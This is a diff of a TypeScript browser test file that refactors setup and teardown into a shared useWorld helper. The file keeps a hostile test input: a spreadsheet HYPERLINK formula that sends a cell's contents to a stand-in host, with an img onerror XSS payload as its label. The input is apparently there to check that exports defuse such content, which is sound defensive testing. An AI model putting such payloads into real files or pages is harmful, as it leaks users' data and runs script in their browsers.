@@ -2,18 +2,15 @@ import { readFile } from 'node:fs/promises'
 import type { Browser, Download, Page } from 'playwright-core'
 import { afterAll, beforeAll, expect, it } from 'vitest'
 import { createDatabase, updateDatabase } from '../databases/documents.ts'
-import { openGateway, type TestAccount, type TestGateway } from '../gateway.ts'
+import { useWorld } from '../world.ts'
 import { openBrowser, visitAs } from './browser.ts'
 
 const formula = '=HYPERLINK("https://example.net/?"&A1,"<img src=x onerror=document.title=1>")'
 
-let gateway: TestGateway
-let account: TestAccount
+const { gateway, account } = useWorld({ accountName: 'Example Inc' })
 let browser: Browser
 
 beforeAll(async () => {
-  gateway = await openGateway()
-  account = await gateway.account('Example Inc')
   const { id } = await createDatabase(account, { name: 'plants' })
   for (let maxTables = 1; maxTables <= 120; maxTables++) await updateDatabase(account.admin, { id, maxTables })
   await account.admin.run(
@@ -22,10 +19,7 @@ beforeAll(async () => {
   )
   browser = await openBrowser()
 })
-afterAll(async () => {
-  await browser?.close()
-  await gateway?.close()
-})
+afterAll(() => browser?.close())
 
 async function exported(page: Page, button: string): Promise<string> {
   const [download] = await Promise.all([
